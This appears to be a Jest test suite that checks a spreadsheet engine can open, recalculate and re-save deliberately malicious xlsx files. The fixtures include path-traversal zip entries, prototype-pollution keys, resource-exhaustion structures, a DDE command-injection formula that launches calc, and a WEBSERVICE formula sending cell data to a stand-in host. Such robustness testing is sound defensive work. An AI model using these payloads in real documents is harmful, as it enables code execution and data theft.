import { expect, jest, test } from "@jest/globals";
import { excelGateway } from "../../src/excel/excel-gateway";
import { openWorkbook } from "../../src/workbook/open";
import { openBytes } from "../excel/open-layout";
import { officeForm } from "../form/form-layout";
import { engine } from "../workbook/engine";
import { partsOf, relationships, zipped } from "../workbook/file";
import { BOOK, edited, FORM, inSheet, SHEET } from "./edited-form";

jest.setTimeout(120_000);

const CALCULATED: readonly (readonly [string, () => Uint8Array])[] = [
  [
    "two sheets of one name",
    () =>
      zipped(
        edited({
          [BOOK]: (xml) =>
            xml.replace("</sheets>", '<sheet name="form 1" sheetId="5" r:id="rId1"/></sheets>'),
        }),
      ),
  ],
  [
    "names that climb out of the folder",
    () => zipped({ ...FORM, "../../../../tmp/keluar.txt": "x", "/etc/x": "x", "C:\\x": "x" }),
  ],
  ["names that are a prototype's", () => zipped({ ...FORM, constructor: "x", toString: "x" })],
  [
    "relationships in a circle",
    () =>
      zipped({
        ...FORM,
        "xl/worksheets/_rels/sheet1.xml.rels": relationships([
          ["comments", "sheet1.xml"],
          ["hyperlink", "../workbook.xml"],
        ]),
      }),
  ],
  [
    "relationships to nowhere",
    () =>
      zipped({
        ...FORM,
        "xl/worksheets/_rels/sheet1.xml.rels": relationships([
          ["comments", "../tidak-ada.xml"],
          ["vmlDrawing", "../../../../x"],
        ]),
      }),
  ],
  ["an absurd dimension", () => zipped(inSheet('<dimension ref="A1:XFD1048576"/>'))],
  ["a dimension that is none", () => zipped(inSheet('<dimension ref="=1+1"/>'))],
  [
    "columns described without end",
    () =>
      zipped(inSheet(`<cols>${'<col min="1" max="16384" width="1e9" style="99999"/>'.repeat(1000)}</cols>`)),
  ],
  [
    "a merged area as large as the sheet",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) => xml.replace("</mergeCells>", '<mergeCell ref="K50:XFD1048576"/></mergeCells>'),
        }),
      ),
  ],
  [
    "merged areas that overlap",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace("</mergeCells>", `${'<mergeCell ref="K50:Z90"/>'.repeat(100)}</mergeCells>`),
        }),
      ),
  ],
  [
    "a conditional format over everything",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            `${xml.replace("</worksheet>", "")}<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" dxfId="0" priority="1"><formula>SUM($A:$XFD)&gt;A1</formula></cfRule></conditionalFormatting></worksheet>`,
        }),
      ),
  ],
  [
    "a style that is not there",
    () => zipped(edited({ [SHEET]: (xml) => xml.replaceAll("<c r=", '<c s="4000000000" r=') })),
  ],
  [
    "an alignment that is a prototype's",
    () =>
      zipped(
        edited({
          "xl/styles.xml": (xml) =>
            xml.replace('horizontal="center"', 'horizontal="constructor" vertical="__proto__"'),
        }),
      ),
  ],
  [
    "a number format that is long and hostile",
    () =>
      zipped(
        edited({
          "xl/styles.xml": (xml) =>
            xml.replace(
              "<fonts",
              `<numFmts><numFmt numFmtId="49" formatCode="${"[".repeat(3000)}${"0,".repeat(3000)}0${"&quot;".repeat(3001)}"/></numFmts><fonts`,
            ),
          [SHEET]: (xml) => xml.replaceAll("<c r=", '<c s="2" r='),
        }),
      ),
  ],
  [
    "names that are formulas of names",
    () =>
      zipped(
        edited({
          [BOOK]: (xml) =>
            xml.replace(
              "</workbook>",
              `<definedNames>${Array.from({ length: 500 }, (_, i) => `<definedName name="n${i}">n${(i + 1) % 500}+n${(i + 7) % 500}</definedName>`).join("")}<definedName name="__proto__">1</definedName></definedNames></workbook>`,
            ),
        }),
      ),
  ],
  [
    "formulas that refer to each other",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace(
              "</sheetData>",
              '<row r="900"><c r="A900"><f>B900+n1</f><v>1</v></c><c r="B900"><f>A900*2</f><v>1</v></c></row></sheetData>',
            ),
        }),
      ),
  ],
  [
    "formulas that call out",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace(
              "</sheetData>",
              `<row r="900"><c r="A900"><f>WEBSERVICE("https://example.invalid/"&amp;G9)</f><v>1</v></c><c r="B900"><f>cmd|' /C calc'!A0</f><v>1</v></c><c r="C900"><f>${"(".repeat(5000)}1${")".repeat(5000)}</f><v>1</v></c></row></sheetData>`,
            ),
        }),
      ),
  ],
  [
    "three hundred thousand shared strings",
    () => zipped({ ...FORM, "xl/sharedStrings.xml": `<sst>${"<si><t>x</t></si>".repeat(300_000)}</sst>` }),
  ],
  [
    "another add-in's settings, and a circle of panes",
    () =>
      zipped({
        ...FORM,
        "_rels/.rels": relationships([
          ["officeDocument", "xl/workbook.xml"],
          ["http://x/webextensiontaskpanes", "xl/panes.xml"],
        ]),
        "xl/panes.xml": "<p/>",
        "xl/_rels/panes.xml.rels": relationships([
          ["http://x/webextension", "panes.xml"],
          ["http://x/webextension", "../xl/workbook.xml"],
        ]),
      }),
  ],
];

test.each(CALCULATED)(
  "a file made to do harm, with %s, is calculated like any other, and saved with that in it",
  async (_, file) => {
    const bytes = file();
    const { workbook } = await openBytes(bytes);
    const answer = await excelGateway().recalculate();
    expect(answer.ok && answer.value.outcomes.map(({ status }) => status)).toEqual(
      officeForm().map(() => "computed"),
    );
    const saved = partsOf(await workbook.save());
    const names = Object.keys(partsOf(bytes)).map((name) => name.replaceAll("\\", "/").replace(/^\//, ""));
    expect(names.filter((name) => !Object.hasOwn(saved, name))).toEqual([]);
    expect(await openWorkbook(await workbook.save(), "uji.xlsx", engine)).toMatchObject({ ok: true });
  },
);
